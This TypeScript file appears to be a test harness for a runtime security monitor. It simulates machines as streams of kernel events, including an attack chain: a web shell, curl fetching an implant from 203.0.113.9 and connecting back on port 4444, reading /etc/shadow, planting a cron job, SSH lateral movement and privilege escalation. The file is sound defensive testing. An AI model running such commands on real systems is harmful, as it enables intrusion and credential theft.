import { defined } from '@ringfence/base';
import { credentialsOf, O, TestHost, type TestHostOptions, type TestProcess } from '@ringfence/testkit';

/** Above the largest pid of any kernel, so that a command against a simulated process can't reach a real process. */
const FIRST_PID = 5_000_000;
const CONTAINER = 77n;
const WEB_USER = 33;
/** µs between two events of one step. */
const STEP_US = 20;

export interface MachineOptions extends Pick<TestHostOptions, 'hostId' | 'bootId' | 'run' | 'key'> {
  /** From 1; name and address of the machine contain it. */
  readonly number: number;
  /** Time of its boot, µs since the epoch. */
  readonly bootedAt: number;
  /** Time of its first event, µs since the epoch. */
  readonly startedAt: number;
}

/** A machine that exists only in its events: a web server in a container, sshd, and cron jobs. */
export class Machine {
  readonly host: TestHost;
  readonly number: number;
  readonly address: string;
  readonly #sshd: TestProcess;
  readonly #cron: TestProcess;
  #web: TestProcess;
  #pid = FIRST_PID;
  #port = 20_000;
  #requests = 0;
  #implants = 0;

  constructor({ number, bootedAt, startedAt, ...identity }: MachineOptions) {
    this.number = number;
    this.address = `10.77.${number >> 8}.${number & 0xff}`;
    this.host = new TestHost({ ...identity, step: STEP_US, wallOffset: bootedAt, ktime: startedAt - bootedAt });
    const { host } = this;
    host.user(0, 'root');
    host.user(WEB_USER, 'www-data');
    const web = { id: `simulated-${number}`, name: `web-${number}`, image: 'shop/web:1.4' };
    // policies/demo.yaml enforces for cgroups with this prefix, so the host receives commands.
    host.container({ cgroup: CONTAINER, ...web, path: `/ringfence-demo-web-${number}` });
    host.snapshot(host.init, '/usr/lib/systemd/systemd');
    this.#sshd = host.exec(this.fork(host.init), '/usr/sbin/sshd');
    this.#cron = host.exec(this.fork(host.init), '/usr/sbin/cron');
    this.#web = this.#serveWeb();
  }

  #serveWeb(): TestProcess {
    const server = this.host.fork(this.host.init, { pid: this.#pid++, cgroup: CONTAINER });
    server.credentials = credentialsOf(WEB_USER);
    return this.host.exec(server, '/usr/sbin/nginx', { credentials: server.credentials });
  }

  fork(parent: TestProcess): TestProcess {
    return this.host.fork(parent, { pid: this.#pid++ });
  }

  spawn(parent: TestProcess, path: string, argv?: readonly string[]): TestProcess {
    const values = { credentials: parent.credentials, ...defined({ argv }) };
    return this.host.exec(this.fork(parent), path, values);
  }

  /** Advances the clock to `now`, µs since the epoch. */
  passTo(now: number): void {
    this.host.ktime = Math.max(this.host.ktime, now - this.host.wallOffset);
  }

  /** Adds the events of a piece of everyday work, which match no rule. */
  work(): void {
    if (this.#requests++ % 25 === 0) this.#job();
    else this.#serve();
  }

  #serve(): void {
    const { host } = this;
    const client = { address: `10.78.0.${1 + (this.#requests % 250)}`, port: 30_000 + (this.#requests % 20_000) };
    host.accept(this.#web, client, { address: this.address, port: 80 });
    host.open(this.#web, `/var/www/html/page-${this.#requests % 97}.html`);
  }

  #job(): void {
    const { host } = this;
    const shell = this.spawn(this.#cron, '/bin/sh', ['sh', '-c', 'test -x /usr/sbin/anacron']);
    host.open(shell, '/etc/ld.so.cache');
    host.open(shell, '/etc/localtime');
    host.exit(shell);
  }

  /** Returns a port that no recent connection of this machine used. */
  nextPort(): number {
    this.#port = this.#port < 60_000 ? this.#port + 1 : 20_000;
    return this.#port;
  }

  /** Restarts the web server, so that each attack is an incident of its own, and makes it run a shell. */
  webShell(): TestProcess {
    this.host.exit(this.#web);
    this.#web = this.#serveWeb();
    this.#implants++;
    return this.spawn(this.#web, '/usr/bin/dash', ['sh', '-c', 'test -f x.png; id; uname -a']);
  }

  /** Makes the shell download a program and run it. Returns the process of that program. */
  implant(shell: TestProcess): TestProcess {
    const { host } = this;
    const path = `/tmp/.x${this.#implants}`;
    const curl = this.spawn(shell, '/usr/bin/curl', ['curl', '-s', '-o', path, 'http://203.0.113.9/implant']);
    host.connect(curl, '203.0.113.9', 80, { localAddress: this.address, localPort: this.nextPort() });
    host.open(curl, path, O.WRONLY | O.CREAT);
    host.exit(curl);
    const implant = this.spawn(shell, path, [path]);
    host.connect(implant, '203.0.113.9', 4444, { localAddress: this.address, localPort: this.nextPort() });
    return implant;
  }

  /** Logs in from `shell` to another machine by SSH. Returns the shell on that machine. */
  login(shell: TestProcess, to: Machine): TestProcess {
    const port = this.nextPort();
    const client = this.spawn(shell, '/usr/bin/ssh', ['ssh', `root@${to.address}`]);
    this.host.connect(client, to.address, 22, { localAddress: this.address, localPort: port });
    return to.#accept(this.address, port);
  }

  #accept(address: string, port: number): TestProcess {
    this.host.accept(this.#sshd, { address, port }, { address: this.address, port: 22 });
    const session = this.spawn(this.#sshd, '/usr/lib/openssh/sshd-session', ['sshd-session', '-R']);
    return this.spawn(this.fork(session), '/bin/bash', ['-bash']);
  }

  readHashes(shell: TestProcess): void {
    const cat = this.spawn(shell, '/usr/bin/cat', ['cat', '/etc/shadow']);
    this.host.open(cat, '/etc/shadow');
    this.host.exit(cat);
  }

  plantJob(shell: TestProcess): void {
    this.host.open(shell, '/etc/cron.d/update', O.WRONLY | O.CREAT);
  }

  becomeRoot(process: TestProcess): void {
    this.host.credentials(process, { ...credentialsOf(0), uid: WEB_USER });
    this.host.exec(process, '/opt/shop/backup-helper', {
      argv: ['/opt/shop/backup-helper', '-p'],
      credentials: process.credentials,
    });
  }
}
